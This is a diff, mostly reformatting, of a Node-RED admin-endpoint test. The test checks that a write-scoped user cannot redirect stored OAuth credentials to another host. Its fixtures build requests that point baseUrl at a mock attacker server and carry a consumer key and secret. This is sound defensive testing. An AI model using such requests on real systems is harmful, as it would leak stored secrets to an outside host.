@@ -47,7 +47,10 @@ describe('admin endpoints with adminAuth on (a real Node-RED)', function () {
       },
     });
     red = await startNodeRed(userDir, port, process.env, (line) => output.push(line));
-    for (const [username, scope] of [['writer', '*'], ['reader', 'read']] as const) {
+    for (const [username, scope] of [
+      ['writer', '*'],
+      ['reader', 'read'],
+    ] as const) {
       const response = await fetch(`${red.url}/auth/token`, {
         method: 'POST',
         headers: { 'content-type': 'application/json' },
@@ -98,7 +101,12 @@ describe('admin endpoints with adminAuth on (a real Node-RED)', function () {
   });
 
   it('a user with write permission cannot post a form, nor send the stored secrets to another host', async () => {
-    const form = new URLSearchParams({ baseUrl: attacker.url, signatureMethod: 'PLAINTEXT', 'credentials[consumerKey]': consumerKey, 'credentials[consumerSecret]': '__PWRD__' });
+    const form = new URLSearchParams({
+      baseUrl: attacker.url,
+      signatureMethod: 'PLAINTEXT',
+      'credentials[consumerKey]': consumerKey,
+      'credentials[consumerSecret]': '__PWRD__',
+    });
     assert.equal((await testRoute('writer', form.toString(), 'application/x-www-form-urlencoded')).status, 415);
     const answer = await testRoute('writer', JSON.stringify({ baseUrl: attacker.url, signatureMethod: 'PLAINTEXT', credentials: STORED }));
     assert.equal(answer.status, 200);
